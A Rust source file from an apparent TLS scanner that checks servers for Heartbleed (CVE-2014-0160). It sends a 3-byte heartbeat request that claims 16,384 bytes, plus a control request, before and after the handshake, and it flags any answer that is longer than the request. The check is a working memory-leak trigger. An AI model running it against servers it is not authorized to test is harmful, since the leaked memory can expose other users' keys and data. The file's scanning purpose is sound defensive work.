//! Heartbleed (CVE-2014-0160): OpenSSL 1.0.1-1.0.1f answered a heartbeat request with as many
//! bytes as its payload_length field claimed, whatever the request carried, so the answer held
//! up to 64 KiB of process memory.
//!
//! Method (as testssl.sh tests it, then once more after a handshake): offer the heartbeat
//! extension; when the server answers it, send a heartbeat request of 3 bytes claiming 16,384
//! bytes of payload, immediately followed by a well-formed request (the control). First in
//! plaintext right after the ServerHelloDone, then protected on a completed handshake.
//! Vulnerable only when an answer carries more bytes than its request; the control's answer
//! arriving with no such answer before it shows the overlong request was discarded.

use std::time::Instant;

use super::active::{self, Conn, Opener, Read1, Stop};
use super::{Check, CheckFuture, CheckInfo, Context, Outcome, Runner, Verdict};
use crate::probe::ProbeError;
use crate::wire::{ContentType, read_record};

/// The check.
pub const CHECK: Check = Check {
    info: CheckInfo {
        id: "heartbleed",
        title: "Heartbleed",
        cve: &["CVE-2014-0160"],
        source: "https://heartbleed.com/",
        method: "heartbeat request of 3 bytes claiming 16384, before the handshake (plaintext, \
                 after ServerHelloDone) and after it (protected), each followed by a \
                 well-formed request; vulnerable when an answer carries more bytes than were \
                 sent",
        active: true,
    },
    run: Runner::Active(run),
};

fn run<'a>(ctx: &'a Context<'a>) -> CheckFuture<'a> {
    Box::pin(check(ctx))
}

/// The overlong request: type 1, payload_length 0x4000, nothing else.
const OVERLONG: [u8; 3] = [1, 0x40, 0x00];

/// A well-formed request: 16 bytes of payload, 16 of padding (RFC 6520 §4's minimum).
fn control() -> (Vec<u8>, [u8; 16]) {
    let mut payload = [0u8; 16];
    let _ = ring::rand::SecureRandom::fill(&ring::rand::SystemRandom::new(), &mut payload);
    let mut m = vec![1, 0, 16];
    m.extend_from_slice(&payload);
    m.extend_from_slice(&[0u8; 16]);
    (m, payload)
}

/// What the heartbeat answers of one phase showed.
#[derive(Debug)]
enum Seen {
    /// An answer longer than its request: (bytes received).
    Leak(Vec<u8>),
    /// The control was answered and nothing leaked before it.
    ControlOnly,
    /// An alert or a close instead.
    Refused(String),
    /// No answer to either request.
    Nothing(String),
}

/// Sorts the heartbeat records received so far; `None`: wait for more.
fn judge(records: &[Vec<u8>], payload: &[u8; 16]) -> Option<Seen> {
    for r in records {
        let is_control = r.len() >= 19 && r[0] == 2 && r[1..3] == [0, 16] && &r[3..19] == payload;
        if is_control {
            return Some(Seen::ControlOnly);
        }
        if r.len() > OVERLONG.len() {
            return Some(Seen::Leak(r.clone()));
        }
    }
    None
}

async fn check(ctx: &Context<'_>) -> Result<Outcome, ProbeError> {
    if ctx.report.features.heartbeat == Some(false) {
        return Ok(Outcome::new(
            Verdict::NotApplicable,
            "the server does not answer the heartbeat extension",
        ));
    }
    active::on_legacy(
        ctx,
        |_| true,
        "no TLS 1.0-1.2 suite tlsight's engine can run (heartbeats do not exist in TLS 1.3)",
        blocking,
    )
    .await
}

fn blocking(o: &Opener, sni: Option<&str>, version: u16, suites: Vec<u16>) -> Outcome {
    let mut cfg = active::engine_config(sni, version, suites);
    cfg.heartbeat = true;
    let before = match before_handshake(o, cfg.clone()) {
        Ok(Some(s)) => s,
        Ok(None) => {
            return Outcome::new(
                Verdict::NotApplicable,
                "the server's ServerHello does not answer the heartbeat extension",
            );
        }
        Err(e) => {
            return Outcome::new(
                Verdict::Inconclusive,
                format!("the handshake to test heartbeats on did not get to ServerHelloDone: {e}"),
            );
        }
    };
    if let Seen::Leak(bytes) = &before {
        return leak(bytes, "before the handshake");
    }
    let after = match after_handshake(o, cfg) {
        Ok(s) => s,
        Err(e) => Seen::Nothing(format!("the handshake did not complete: {e}")),
    };
    match (&before, &after) {
        (_, Seen::Leak(bytes)) => leak(bytes, "after the handshake"),
        (_, Seen::ControlOnly) | (Seen::ControlOnly, _) => Outcome::new(
            Verdict::NotVulnerable,
            "the server discarded the overlong heartbeat request and answered the well-formed \
             one",
        ),
        (Seen::Refused(b), Seen::Refused(a)) => Outcome::new(
            Verdict::NotVulnerable,
            "the server refused the overlong heartbeat request, before and after the handshake",
        )
        .with_evidence(format!("before: {b}; after: {a}")),
        (b, a) => Outcome::new(
            Verdict::Inconclusive,
            "the server answered neither heartbeat request (not even the well-formed one)",
        )
        .with_evidence(format!("before: {}; after: {}", text(b), text(a))),
    }
}

fn text(s: &Seen) -> String {
    match s {
        Seen::Leak(b) => format!("{} bytes", b.len()),
        Seen::ControlOnly => "the well-formed request answered".into(),
        Seen::Refused(r) | Seen::Nothing(r) => r.clone(),
    }
}

fn leak(bytes: &[u8], when: &str) -> Outcome {
    Outcome::new(
        Verdict::Vulnerable,
        format!(
            "the heartbeat answer {when} carried {} bytes for the {} sent",
            bytes.len(),
            OVERLONG.len()
        ),
    )
    .with_evidence(format!(
        "heartbeat response: {}",
        active::hex_excerpt(bytes, 48)
    ))
}

/// Phase 1: plaintext requests right after the ServerHelloDone. `None`: the server did not
/// answer the heartbeat extension.
fn before_handshake(o: &Opener, mut cfg: crate::engine::Config) -> Result<Option<Seen>, String> {
    cfg.pause_at_server_hello_done = true;
    let (mut conn, client, r) = o.start(&cfg, |_| false)?;
    r.map_err(|e| e.to_string())?;
    if !client.is_paused() {
        return Err("the engine did not stop at ServerHelloDone".into());
    }
    if !client.outcome().heartbeat {
        return Ok(None);
    }
    let (ctl, payload) = control();
    let v = client.record_version();
    let mut out = Vec::new();
    for m in [&OVERLONG[..], &ctl[..]] {
        out.push(ContentType::HEARTBEAT.0);
        out.extend_from_slice(&v.to_be_bytes());
        out.extend_from_slice(&(m.len() as u16).to_be_bytes());
        out.extend_from_slice(m);
    }
    conn.send(&out).map_err(|e| Stop::Net(e).to_string())?;
    Ok(Some(read_plain(&mut conn, &payload)))
}

fn read_plain(conn: &mut Conn, payload: &[u8; 16]) -> Seen {
    let deadline = Instant::now() + conn.timeout();
    let mut buf = Vec::new();
    let mut beats = Vec::new();
    loop {
        match conn.read_until(deadline) {
            Read1::Data(d) => {
                buf.extend_from_slice(&d);
                while let Ok(Some(r)) = read_record(&buf, 0) {
                    let (ct, frag, len) = (r.header[0], r.fragment.to_vec(), r.wire_len());
                    buf.drain(..len);
                    if ct == ContentType::HEARTBEAT.0 {
                        beats.push(frag);
                    } else if ct == ContentType::ALERT.0 && frag.len() >= 2 {
                        return judge(&beats, payload)
                            .unwrap_or(Seen::Refused(active::alert_text(frag[0], frag[1])));
                    }
                }
                if let Some(s) = judge(&beats, payload) {
                    return s;
                }
                if buf.len() > 1 << 20 || read_record(&buf, 0).is_err() {
                    return Seen::Nothing("bytes that are not TLS records".into());
                }
            }
            Read1::Timeout => return Seen::Nothing("no answer before the timeout".into()),
            other => {
                return Seen::Refused(Stop::Net(other).to_string());
            }
        }
    }
}

/// Phase 2: protected requests on a completed handshake.
fn after_handshake(o: &Opener, cfg: crate::engine::Config) -> Result<Seen, String> {
    let (mut conn, mut client, r) = o.start(&cfg, |_| false)?;
    r.map_err(|e| e.to_string())?;
    if !client.is_done() {
        return Err("the handshake did not complete".into());
    }
    if !client.outcome().heartbeat {
        return Ok(Seen::Nothing(
            "no heartbeat extension on the full handshake".into(),
        ));
    }
    let (ctl, payload) = control();
    client.send_record(ContentType::HEARTBEAT, &OVERLONG);
    client.send_record(ContentType::HEARTBEAT, &ctl);
    let deadline = Instant::now() + conn.timeout();
    let mut beats = Vec::new();
    loop {
        if conn.send(&client.take_output()).is_err() {
            return Ok(Seen::Refused("the server closed the connection".into()));
        }
        beats.extend(client.take_other_records().into_iter().map(|(_, b)| b));
        if let Some(s) = judge(&beats, &payload) {
            return Ok(s);
        }
        match conn.read_until(deadline) {
            Read1::Data(d) => {
                if let Err(e) = client.receive(&d) {
                    beats.extend(client.take_other_records().into_iter().map(|(_, b)| b));
                    return Ok(judge(&beats, &payload).unwrap_or(Seen::Refused(e.to_string())));
                }
            }
            Read1::Timeout => return Ok(Seen::Nothing("no answer before the timeout".into())),
            other => return Ok(Seen::Refused(Stop::Net(other).to_string())),
        }
    }
}
